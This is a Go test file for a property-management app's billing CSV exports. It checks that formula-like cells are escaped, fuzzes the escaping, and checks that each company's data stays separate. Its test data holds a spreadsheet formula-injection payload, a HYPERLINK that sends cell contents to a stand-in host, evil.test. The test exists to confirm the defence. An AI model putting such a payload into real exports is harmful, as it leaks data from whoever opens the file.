package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"lintel.dev/lintel/internal/lintel"
	"lintel.dev/lintel/internal/testkit"
)

func init() {
	addMatrixRows(map[string]matrixRow{
		"GET /manage/billing":                 {fixed("/manage/billing"), nil, staffList},
		"GET /manage/billing/receivables.csv": {fixed("/manage/billing/receivables.csv"), nil, staffList},
		"GET /manage/billing/rent-roll":       {fixed("/manage/billing/rent-roll"), nil, staffList},
		"GET /manage/billing/rent-roll.csv":   {fixed("/manage/billing/rent-roll.csv"), nil, staffList},
	})
}

// TestCSVCell: a cell a spreadsheet would run as a formula is shown as
// text instead (SECURITY.md 20); plain numbers stay numbers.
func TestCSVCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Ada Lovelace", "Ada Lovelace"},
		{"=HYPERLINK(\"https://evil.test\",\"Click\")", "'=HYPERLINK(\"https://evil.test\",\"Click\")"},
		{"=1+2", "'=1+2"},
		{"+1 555 0100", "'+1 555 0100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"-", "'-"},
		{"-.5", "'-.5"},
		{"1250.00", "1250.00"},
		{"-12.50", "-12.50"},
		{"-0.00", "-0.00"},
		{"42", "42"},
		{"1.", "1."},
		{"a=1", "a=1"},
		{" =1", " =1"}, // a leading space is not a formula
		{"'=1", "'=1"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzCSVCell: whatever a name holds, the exported cell does not start a
// formula, reads back through a CSV parser as written, and only ever gains
// one apostrophe.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+1", "-1", "-1.5", "@x", "\t=1", "\r=1", "a,b", "\"quoted\"", "line\nbreak", "-", "1.", "--1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvCell(s)
		if got != s && got != "'"+s {
			t.Fatalf("csvCell(%q) = %q: more than a leading apostrophe", s, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !plainNumber(got) {
			t.Fatalf("csvCell(%q) = %q still starts a formula", s, got)
		}
		if plainNumber(got) && strings.ContainsAny(got, "=+@\t\r") {
			t.Fatalf("plainNumber(%q) accepted a formula character", got)
		}
		var b strings.Builder
		w := csv.NewWriter(&b)
		if err := w.Write([]string{got, "next"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		rec, err := csv.NewReader(strings.NewReader(b.String())).Read()
		if err != nil {
			t.Fatalf("reading back %q: %v", b.String(), err)
		}
		// encoding/csv turns \r\n inside a quoted field into \n on reading.
		if want := strings.ReplaceAll(got, "\r\n", "\n"); len(rec) != 2 || (rec[0] != want && !strings.Contains(got, "\r")) {
			t.Fatalf("cell %q read back as %q", got, rec)
		}
	})
}

// TestBillingReportsExport: the receivables and the rent roll on screen
// and as CSV downloads, a tenant named like a formula coming out as text,
// and nothing of company A in company B's files.
func TestBillingReportsExport(t *testing.T) {
	t.Parallel()
	db, w := testkit.SQLiteWorld(t)
	a := w.A
	ctx := context.Background()
	admin := a.Staff[testkit.Admin]
	evil := `=HYPERLINK("https://evil.test/?leak="&A1,"Click me")`
	cid, err := db.CreateContact(ctx, admin, lintel.Contact{Name: evil, IsTenant: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := db.AddLeaseTenant(ctx, admin, a.OtherLease, cid); err != nil {
		t.Fatal(err)
	}
	today := lintel.DateOf(db.Now())
	for i, c := range []lintel.NewCharge{
		{LeaseID: a.OtherLease, Category: lintel.ChargeRent, Description: "Rent", Amount: 100000, Due: today.AddDays(-40)},
		{LeaseID: a.Lease, Category: lintel.ChargeRent, Description: "Rent", Amount: 120000, Due: today.AddDays(-5)},
	} {
		c.IdempotencyKey = "export:" + string(rune('a'+i))
		if _, err := db.PostCharge(ctx, admin, c); err != nil {
			t.Fatal(err)
		}
	}
	app := newTestApp(t, db)
	c := app.client(t)
	c.loginAs(a.Emails[testkit.Bookkeeper], testkit.Password)

	c.get("/manage").want(t, http.StatusOK).wantBody(t, `href="/manage/billing"`)
	c.get("/manage/billing").want(t, http.StatusOK).wantBody(t, "Receivables", "Total, 2 leases", "$1,000.00", "$1,200.00", "$2,200.00",
		"&#34;Click me&#34;", "Download CSV")
	c.get("/manage/billing/rent-roll").want(t, http.StatusOK).wantBody(t, "Rent roll", "Vacant", "Apt 2", "2 of 3 occupied", "$2,200.00 rent a month")

	for _, tc := range []struct {
		path, file string
		header     []string
		rows       int // data rows, totals row included
	}{
		{"/manage/billing/receivables.csv", "receivables-" + today.String() + ".csv",
			[]string{"Property", "Unit", "Tenants", "Lease start", "Lease end", "Not yet due", "0-30 days", "31-60 days", "61-90 days", "Over 90 days", "Balance", "Currency"}, 3},
		{"/manage/billing/rent-roll.csv", "rent-roll-" + today.String() + ".csv",
			[]string{"Property", "Unit", "Status", "Tenants", "Lease start", "Lease end", "Rent", "Deposit", "Deposit held", "Balance", "Currency"}, 3},
	} {
		r := c.get(tc.path).want(t, http.StatusOK)
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="`+tc.file+`"` {
			t.Errorf("%s: Content-Disposition %q", tc.path, cd)
		}
		if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("%s: Content-Type %q", tc.path, ct)
		}
		recs, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v\n%s", tc.path, err, r.Body)
		}
		if len(recs) != tc.rows+1 || strings.Join(recs[0], "|") != strings.Join(tc.header, "|") {
			t.Fatalf("%s: %d records, header %q\n%s", tc.path, len(recs), recs[0], r.Body)
		}
		found := false
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
					t.Errorf("%s: cell %q starts a formula", tc.path, cell)
				}
				if strings.Contains(cell, "'"+evil) {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("%s: the tenant named %q is not there, escaped:\n%s", tc.path, evil, r.Body)
		}
	}
	r := c.get("/manage/billing/receivables.csv")
	if !strings.Contains(r.Body, "Total,,2 leases,,,0.00,1200.00,1000.00,0.00,0.00,2200.00,USD") {
		t.Errorf("receivables totals row:\n%s", r.Body)
	}

	// Company B's files hold nothing of company A.
	b := app.client(t)
	b.loginAs(w.B.Emails[testkit.Admin], testkit.Password)
	for _, path := range []string{"/manage/billing/receivables.csv", "/manage/billing/rent-roll.csv", "/manage/billing", "/manage/billing/rent-roll"} {
		body := b.get(path).want(t, http.StatusOK).Body
		if strings.Contains(body, "HYPERLINK") || strings.Contains(body, "Harbour") {
			t.Errorf("company B's %s shows company A's records", path)
		}
	}
}
